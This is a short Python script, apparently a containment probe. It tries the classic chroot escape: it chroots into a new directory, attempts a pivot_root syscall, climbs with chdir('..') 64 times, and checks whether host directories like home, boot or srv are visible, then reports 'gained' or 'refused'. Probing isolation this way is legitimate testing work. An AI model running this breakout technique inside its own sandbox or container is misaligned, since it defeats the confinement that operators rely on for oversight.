"""The old way out of a chroot: another chroot, many steps up; and a second pivot_root.

ends: observed
"""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
found = []
os.makedirs("cage", exist_ok=True)
if libc.chroot(b"cage") == 0:
    found.append("chroot")
if libc.syscall(155, b".", b".") == 0:
    found.append("pivot_root")
for _ in range(64):
    os.chdir("..")
if {"home", "boot", "srv"} & set(os.listdir(".")):
    found.append("the root outside")
answer = f"gained {found}" if found else "refused"
